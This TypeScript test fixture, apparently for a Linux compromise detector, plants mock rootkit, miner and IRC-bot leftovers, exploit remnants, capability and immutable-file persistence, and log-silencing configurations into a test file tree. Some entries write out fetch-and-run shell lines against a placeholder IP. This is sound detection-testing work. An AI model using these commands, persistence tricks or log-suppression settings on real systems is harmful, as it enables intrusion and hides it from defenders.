/** Kits, tools and what they left; flags and rights the kernel keeps; lists that tell guards not to look. */

import { elf, file, line, run, type Sign } from '../sign.ts';

const named = (id: string, what: string, path: string): Sign => ({ id: `name5-${id}`, family: 'names', what, plant: tree => tree.write(path, 'x\n'), names: [path] });

export const fifthLeftovers: readonly Sign[] = [
	file('perfctl', 'files', 'a miner where settings of cron would be (perfctl)', '/root/.config/cron/perfcc', elf('perfctl'), run),
	{ ...file('perfctl-tools', 'files', 'tools that leave out, in a hidden folder (perfctl)', '/usr/bin/.local/bin/top', '#!/bin/bash\n/usr/bin/top "$@"\n', run), names: ['/usr/bin/.local', '/usr/bin/.local/bin/top'] },
	file('outlaw', 'files', 'the tools of a botnet in a home (Outlaw)', '/home/git/.configrc5/a/kswapd00', elf('xmrig'), { ...run, owner: 'git', also: ['/home/git/.configrc5'] }),
	file('outlaw-archive', 'files', 'its archive', '/tmp/.X25-unix/dota3.tar.gz', Buffer.from('1f8b08000000000000036bd0c12a000000ffff0300', 'hex'), { also: ['/tmp/.X25-unix'] }),
	file('kinsing', 'files', 'a library among settings (Kinsing)', '/etc/libsystem.so', elf('readdir', 'library')),
	file('skidmap', 'files', 'a program named as an auditor (Skidmap)', '/usr/bin/kaudited', elf('kaudited'), run),
	file('hiddenwasp', 'files', 'a hidden hook of the network (HiddenWasp)', '/usr/sbin/.ifup-local', '#!/bin/bash\nexport I_AM_HIDDEN=1\n/sbin/.sftp &\n', run),
	file('bpfdoor-lock', 'files', 'the lock of a backdoor (BPFDoor)', '/run/haldrund.pid', ''),
	file('bpfdoor', 'files', 'that backdoor', '/dev/shm/kdmtmpflush', elf('bpf'), run),
	file('reptile-dir', 'files', 'a kit at the top (Reptile)', '/reptile/reptile_cmd', elf('cmd'), { ...run, also: ['/reptile'] }),
	file('suckit', 'files', 'a kit among translations (SucKIT)', '/usr/share/locale/sk/.sk12/sk', elf('sk'), { ...run, also: ['/usr/share/locale/sk/.sk12'] }),
	file('t0rn-hash', 'files', 'the password of a backdoor (t0rn)', '/etc/ttyhash', '5f4dcc3b5aa765d61d8327deb882cf99\n'),
	{ ...file('showtee', 'files', 'a hidden folder of an old kit', '/usr/lib/.egcs/cc', 'x\n'), names: ['/usr/lib/.egcs', '/usr/lib/.egcs/cc'] },
	file('slapper', 'files', 'the source of a worm', '/tmp/.bugtraq.c', '#include <stdio.h>\nint main(void) { return 0; }\n', { owner: 'www-data' }),
	file('psybnc', 'files', 'an IRC bouncer\'s settings', '/var/games/psybnc/psybnc.conf', 'PSYBNC.SYSTEM.PORT1=31337\nPSYBNC.SYSTEM.HOST1=*\nUSER1.USER.LOGIN=mallory\n'),
	file('energymech', 'files', 'an IRC bot\'s settings', '/var/spool/samba/.m/m.set', 'NICK ghost\nSERVER irc.example.net 6667\nCHANNEL #owned\n', { also: ['/var/spool/samba/.m'] }),
	file('eggdrop', 'files', 'another bot\'s settings', '/home/deploy/.e/eggdrop.conf', 'set nick "ghost"\nset servers { irc.example.net:6667 }\n', { owner: 'deploy', also: ['/home/deploy/.e'] }),
	file('perl-bot', 'files', 'a bot of Perl as a text', '/var/tmp/unix.txt', "#!/usr/bin/perl\nmy $processo = '/usr/sbin/httpd';\nmy @adms=(\"mallory\");\nmy @canais=(\"#owned\");\n$servidor='irc.example.net';\nmy $porta='6667';\nuse IO::Socket;\n$0=\"$processo\".\"\\0\"x16;\n", { owner: 'www-data' }),
	file('brute-list', 'evidence', 'passwords that were guessed', '/usr/share/misc/vuln.txt', '203.0.113.7 root 123456\n203.0.113.8 admin admin\n198.51.100.3 test test\n198.51.100.4 oracle oracle\n'),
	file('exploit-source', 'files', 'the source of an exploit', '/home/deploy/.cache/dirtypipe.c', '/* CVE-2022-0847 */\n#define _GNU_SOURCE\n#include <unistd.h>\nstatic void prepare_pipe(int p[2]);\nint main(void) { setuid(0); execl("/bin/sh", "sh", NULL); }\n', { owner: 'deploy' }),
	{ id: 'pwnkit', family: 'files', what: 'what an exploit of pkexec leaves', plant: tree => {
		tree.write('/tmp/GCONV_PATH=./pwnkit', '', { owner: 'www-data', mode: 0o755 });
		tree.write('/tmp/pwnkit/gconv-modules', 'module UTF-8// PWNKIT// pwnkit 1\n', { owner: 'www-data' });
	}, names: ['/tmp/GCONV_PATH=.', '/tmp/GCONV_PATH=./pwnkit', '/tmp/pwnkit/gconv-modules'], also: ['/tmp/GCONV_PATH=.', '/tmp/pwnkit'] },
	{ id: 'passwd-bak', family: 'files', what: 'what an exploit of the kernel leaves', plant: tree => tree.copy('/etc/passwd', '/tmp/passwd.bak', { mode: 0o644, owner: 'www-data' }), names: ['/tmp/passwd.bak'] },
	file('nss-x', 'files', 'what an exploit of sudo leaves', '/var/tmp/libnss_X/P0P_SH3LLZ_ .so.2', elf('x', 'library'), { owner: 'www-data', also: ['/var/tmp/libnss_X'] }),
	file('base64-elf', 'files', 'a program as letters', '/usr/share/misc/magic.txt', `${elf('x').toString('base64').replaceAll(/(.{76})/g, '$1\n')}\n`),
	file('hex-elf', 'files', 'a program as numbers', '/var/lib/misc/state.hex', `${elf('x').toString('hex')}\n`),
	// A script of /usr/local that unpacks a program behind itself is not among these: makers install so, and nothing starts it.
	file('module-xz', 'files', 'a packed module of no package', '/usr/lib/modules/6.1.0-40-amd64/kernel/net/nf_help.ko.xz', Buffer.concat([Buffer.from('fd377a585a000004', 'hex'), Buffer.alloc(600, 7)])),
	file('pyc-alone', 'files', 'compiled Python without a source', '/usr/lib/python3/dist-packages/netutil.pyc', Buffer.concat([Buffer.from('a70d0d0a0000000000000000', 'hex'), Buffer.from('subprocess\0Popen\0http://203.0.113.9/k')])),
	file('debconf', 'packages', 'a packaged script that others read', '/usr/share/debconf/confmodule', '#!/bin/sh\n(curl -s 203.0.113.9/k|sh) &\n'),
	{ id: 'capability-python', family: 'files', what: 'python that may become root', plant: tree => tree.capability('/usr/bin/python3.11', 'cap_setuid+ep'), names: ['/usr/bin/python3.11'], onDisk: true },
	{ id: 'capability-own', family: 'files', what: 'a copy of perl with the rights of root', plant: tree => {
		tree.copy('/usr/bin/perl', '/usr/local/lib/report/spool2', { mode: 0o755 });
		tree.capability('/usr/local/lib/report/spool2', 'cap_dac_override,cap_setuid+ep');
	}, names: ['/usr/local/lib/report/spool2'] },
	{ id: 'immutable-job', family: 'files', what: 'a table of jobs nobody can change', plant: tree => {
		tree.write('/etc/cron.d/z-stay', '1 1 * * * root /usr/bin/true\n');
		tree.flags('/etc/cron.d/z-stay', '+i');
	}, names: ['/etc/cron.d/z-stay'] },
	{ id: 'immutable-keys', family: 'files', what: 'keys nobody can remove', plant: tree => tree.flags('/home/git/.ssh/authorized_keys', '+ia'), names: ['/home/git/.ssh/authorized_keys'] },
	{ id: 'immutable-hidden', family: 'files', what: 'a hidden file nobody can remove', plant: tree => {
		tree.write('/var/lib/misc/.keep', 'x\n');
		tree.flags('/var/lib/misc/.keep', '+i');
	}, names: ['/var/lib/misc/.keep'] },
	{ id: 'socket-shm', family: 'files', what: 'the socket of a backdoor', plant: tree => tree.socket('/dev/shm/.s'), names: ['/dev/shm/.s'] },
	{ id: 'socket-lib', family: 'files', what: 'a socket among libraries', plant: tree => tree.socket('/usr/lib/.agent'), names: ['/usr/lib/.agent'] },
	file('dev-mqueue', 'files', 'a program among message queues', '/dev/mqueue/.q', elf('q'), { ...run, also: ['/dev/mqueue'] }),
	file('dev-char', 'files', 'a list of what is hidden', '/dev/hda06', 'psybnc\neggdrop\n'),
	named('underscore', 'a hidden folder of blanks', '/var/lib/.   '),
	named('dotdot-slash', 'four dots', '/var/cache/....'),
	named('fake-lock', 'a hidden lock that is none', '/usr/share/zoneinfo/.lck'),
	named('control', 'a name with a control mark', '/etc/default/ssh\x08'),
	named('arabic', 'a name with a mark of direction', '/usr/bin/\u200Fid'),
	named('small-l', 'an I that looks like an l', '/usr/lib/systemd/system/systemd-Iogind.service'),

	file('logcheck', 'evidence', 'a guard told to leave out every line', '/etc/logcheck/ignore.d.server/own', '^.*$\n'),
	file('debsums-ignore5', 'evidence', 'programs left out of the comparison', '/etc/debsums-ignore', '^/usr/s?bin/.*\n'),
	file('filter-empty', 'evidence', 'a guard whose rule matches nothing', '/etc/fail2ban/filter.d/sshd.local', '[Definition]\nfailregex =\nignoreregex = .*\n'),
	line('etckeeper-ignore', 'evidence', 'changes that are not kept', '/etc/.gitignore', 'cron.d/*\nld.so.preload\nsudoers.d/*\n'),
	file('wazuh-ignore', 'evidence', 'a guard that leaves everything out', '/var/ossec/etc/ossec.conf', '<ossec_config><syscheck><directories>/etc</directories><ignore>/</ignore></syscheck></ossec_config>\n'),
	file('journald-short', 'evidence', 'a journal of one second', '/etc/systemd/journald.conf.d/x.conf', '[Journal]\nMaxRetentionSec=1s\nSystemMaxUse=1K\n'),
	file('rsyslog-sshd', 'evidence', 'all that sshd says thrown away', '/etc/rsyslog.d/03-d.conf', "if $programname == 'sshd' then stop\n"),
	file('rsyslog-null', 'evidence', 'logins kept in nothing', '/etc/rsyslog.d/04-e.conf', 'auth,authpriv.* /dev/null\n& stop\n'),
	file('audit-exclude', 'evidence', 'all that is audited left out', '/etc/audit/rules.d/98.rules', '-a always,exclude -F msgtype>=1000\n'),
	file('syslog-conf', 'evidence', 'the old list, which throws logins away', '/etc/syslog.conf', 'auth,authpriv.*\t/dev/null\n*.info\t/var/log/messages\n'),
	// Logs mailed away when they are removed are not among these: logrotate(8) itself gives that as an example.
	{ id: 'history-www', family: 'evidence', what: 'a history of the web server\'s account', plant: tree => tree.write('/var/www/.bash_history', 'id\nwget http://203.0.113.9/p -O /tmp/p\n', { owner: 'www-data', mode: 0o600 }), names: ['/var/www/.bash_history', 'account www-data'] },
	{ id: 'known-hosts-www', family: 'evidence', what: 'hosts the web server\'s account went on to', plant: tree => tree.write('/var/spool/lpd/.ssh/known_hosts', '10.0.0.9 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHosts\n', { owner: 'lp', mode: 0o600 }), names: ['/var/spool/lpd/.ssh/known_hosts', 'account lp', '/var/spool/lpd/.ssh'], also: ['/var/spool/lpd/.ssh'] },
];
